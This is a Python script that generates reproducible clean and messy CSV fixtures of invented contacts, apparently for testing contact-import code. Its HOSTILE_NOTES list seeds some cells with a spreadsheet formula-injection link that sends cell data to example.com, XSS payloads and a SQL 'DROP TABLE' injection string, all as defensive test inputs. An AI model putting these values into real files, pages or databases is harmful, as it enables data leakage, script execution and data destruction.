"""Write contacts-clean.csv and contacts-messy.csv beside this file, the same on every run.

All people are invented. Addresses are in the domains, and most numbers in the ranges, that are kept free for examples
(RFC 2606; in the US 555-0100 to 555-0199, in the UK and in France the ranges that Ofcom and Arcep keep for fiction).
"""

from __future__ import annotations

import csv
import random
import unicodedata
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import NamedTuple

FOLDER = Path(__file__).parent
CLEAN_ROWS = 200
MESSY_ROWS = 2500

FIRST_NAMES = """
    Ana Ben Carla Dmitri Elif Farah Goran Hanna Ines Jonas Karin Liam Mei Nadia Omar Priya Quentin Rosa Samir Tanja Uma
    Viktor Wanda Ximena Yusuf Zoë André Björn Chloé Désirée Éloïse François Gülay Håkon Inês José Kōichi Łukasz Märta
    Noël Øystein Renée Søren Théo Ürün Václav Željko Siobhán Nguyễn Ángela
""".split()
LAST_NAMES = """
    Adams Bauer Carter Dubois Eriksson Fischer García Hughes Ivanova Jensen Kowalski Lefèvre Müller Novák Okafor Petrov
    Quinn Rossi Sánchez Takahashi Ueda Vogel Wagner Xu Yılmaz Zhang Ångström Brontë D'Angelo Fernández González Højgaard
    Iñárritu Jørgensen Kühn Łoś Muñoz Núñez O'Brien Pérez Rodríguez Şahin Tóth Vašek Weiß Żak Smith-Jones Oyelaran Grün
""".split()
COMPANIES = [
    "Northwind",
    "Blue Harbour",
    "Käse & Co.",
    "Tailspin",
    "Fabrikam",
    "Müller, Söhne",
    'The "Best" Shop',
    "Acorn",
]
TITLES = ["Owner", "Buyer", "Head of Sales", "Engineer", "Directrice générale", "Geschäftsführer", "CFO", "Assistant"]
CITIES = {"US": "Springfield", "GB": "Leeds", "DE": "Köln", "FR": "Besançon", "ES": "Cádiz", "NL": "’s-Hertogenbosch"}
PLANS = ["Free", "Team", "Business", "Enterprise"]
TAGS = ["newsletter", "trade fair", "vip", "partner", "webinar 2025", "renewal"]


WITHOUT_DECOMPOSITION = str.maketrans({"ø": "o", "ł": "l", "ß": "ss", "ı": "i"})


class Person(NamedTuple):
    first_name: str
    last_name: str
    email: str
    country: str


def digits(number: int) -> str:
    return f"{number % 100:02d}"


def area_code(number: int) -> str:
    return AREA_CODES[number // 100]


AREA_CODES = (
    "201 202 203 205 206 207 208 209 210 212 213 214 215 216 217 218 219 224 225 228 229 231 234 239 240".split()
)

# Country → ways in which people there write a number of theirs. The n-th person's differs from almost everybody's:
# some share one, as colleagues behind a switchboard do.
PHONES: dict[str, list[Callable[[int], str]]] = {
    "US": [
        lambda n: f"({area_code(n)}) 555-01{digits(n)}",
        lambda n: f"{area_code(n)}.555.01{digits(n)}",
        lambda n: f"+1 {area_code(n)} 555 01{digits(n)}",
        lambda n: f"1-{area_code(n)}-555-01{digits(n)} ext. {10 + n % 80}",
    ],
    "GB": [
        lambda n: f"020 7946 0{n % 1000:03d}",
        lambda n: f"+44 (0)20 7946 0{n % 1000:03d}",
        lambda n: f"0161 496 0{n % 1000:03d}",
        lambda n: f"0044 117 496 0{n % 1000:03d}",
    ],
    "DE": [
        lambda n: f"030 23125 {n % 1000:03d}",
        lambda n: f"0221/4710{n % 1000:03d}",
        lambda n: f"+49 (0) 151 5555 {n % 10000:04d}",
        lambda n: f"0049 30 23125{n % 1000:03d}",
    ],
    "FR": [
        lambda n: f"01 99 00 {digits(n // 100)} {digits(n)}",
        lambda n: f"01.99.00.{digits(n // 100)}.{digits(n)}",
        lambda n: f"+33 (0)1 99 00 {digits(n // 100)} {digits(n)}",
    ],
    "ES": [lambda n: f"612 34 {digits(n // 100)} {digits(n)}", lambda n: f"+34 91 234 {n % 10000:04d}"],
    "NL": [lambda n: f"06-1234{n % 10000:04d}", lambda n: f"+31 20 123 {n % 10000:04d}"],
}
COUNTRY_NAMES = {
    "US": ["USA", "United States", "US", "U.S.A."],
    "GB": ["UK", "United Kingdom", "GB", "Great Britain"],
    "DE": ["Germany", "Deutschland", "DE", "germany"],
    "FR": ["France", "FR", "FRANCE"],
    "ES": ["Spain", "España", "ES"],
    "NL": ["Netherlands", "The Netherlands", "NL"],
}
NOT_ADDRESSES = ["n/a", "unknown", "ana@", "@example.com", "two@at@example.com", "no at.example.com", "see notes"]
HOSTILE_NOTES = [
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert('hello')</script>",
    '"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE contacts;--",
]
NOTES = [
    "",
    "",
    "",
    "Met at the fair",
    "Prefers e-mail",
    "Two lines:\nhere is the second",
    "Said “call later”",
    "半角カナ",
]


def people(randomness: random.Random, count: int) -> list[Person]:
    """Return people whose addresses all differ."""
    return [
        Person(
            first_name := randomness.choice(FIRST_NAMES),
            last_name := randomness.choice(LAST_NAMES),
            f"{plain(first_name)}.{plain(last_name)}{number}@example.{randomness.choice(['com', 'org', 'net'])}",
            randomness.choice(list(PHONES)),
        )
        for number in range(1, count + 1)
    ]


def plain(name: str) -> str:
    """Return a name in letters of the English alphabet, as mail systems like them."""
    letters = unicodedata.normalize("NFKD", name.lower().translate(WITHOUT_DECOMPOSITION))
    return "".join(letter for letter in letters if letter.isascii() and letter.isalpha())


def clean_rows() -> list[list[str]]:
    randomness = random.Random(1)
    rows = [["First Name", "Last Name", "Email", "Phone", "Company", "Title"]]
    for number, person in enumerate(people(randomness, CLEAN_ROWS)):
        phone = f"+1{area_code(number)}55501{digits(number)}"
        company, title = randomness.choice(COMPANIES), randomness.choice(TITLES)
        rows.append([person.first_name, person.last_name, person.email, phone, company, title])
    return rows


def messy_rows() -> list[list[str]]:
    randomness = random.Random(2)
    header = ["Full name", "E-Mail Address", "Mobile / Phone", "Organisation", "Job title", "Country", "Town"]
    header += ["Customer since", "Tags", "Plan", "Notes", "Do not contact"]
    rows: list[list[str]] = []
    for number, person in enumerate(people(randomness, MESSY_ROWS)):
        row = messy_row(randomness, number, person)
        fate = randomness.random()
        if fate < 0.04 and rows:  # the same person again, written otherwise
            row = [*randomness.choice(rows)]
            row[1] = row[1].upper() if number % 2 else row[1].title()
        elif fate < 0.07:  # an address that is none, beside a number that is one
            row[1] = randomness.choice(NOT_ADDRESSES)
        elif fate < 0.09:  # nothing to reach them by
            row[1], row[2] = randomness.choice([("", ""), ("n/a", "-"), ("none", "tbd")])
        elif fate < 0.10:
            row = [""] * len(header)
        elif fate < 0.13:
            row[2] = ""
        elif fate < 0.15:
            row[1] = ""
        elif fate < 0.17:
            row[10] = randomness.choice(HOSTILE_NOTES)
        elif fate < 0.18:
            row[0] = randomness.choice(HOSTILE_NOTES)
        rows.append(row)
    return [header, *rows]


def messy_row(randomness: random.Random, number: int, person: Person) -> list[str]:
    name = f"{person.last_name}, {person.first_name}"
    if randomness.random() < 0.1:
        name = randomness.choice([name.upper(), name.lower(), f"  {name}  ", f"{person.first_name} {person.last_name}"])
    email = person.email
    if randomness.random() < 0.1:
        email = randomness.choice([email.upper(), f" {email} ", f"<{email}>", f"mailto:{email}"])
    since = date(2015, 1, 1) + timedelta(days=randomness.randrange(4000))
    tags = randomness.sample(TAGS, randomness.randrange(4))
    return [
        name,
        email,
        randomness.choice(PHONES[person.country])(number),
        randomness.choice(COMPANIES),
        randomness.choice(TITLES),
        randomness.choice(COUNTRY_NAMES[person.country]),
        CITIES[person.country],
        since.isoformat() if randomness.random() < 0.9 else randomness.choice(["", since.strftime("%d %b %Y"), "soon"]),
        randomness.choice(["; ", ", ", ","]).join(tags),
        randomness.choice(PLANS),
        randomness.choice(NOTES),
        randomness.choice(["", "", "", "no", "yes", "TRUE"]),
    ]


def write(name: str, rows: list[list[str]]) -> None:
    # \r\n, as spreadsheets write it.
    with (FOLDER / name).open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


if __name__ == "__main__":
    write("contacts-clean.csv", clean_rows())
    write("contacts-messy.csv", messy_rows())
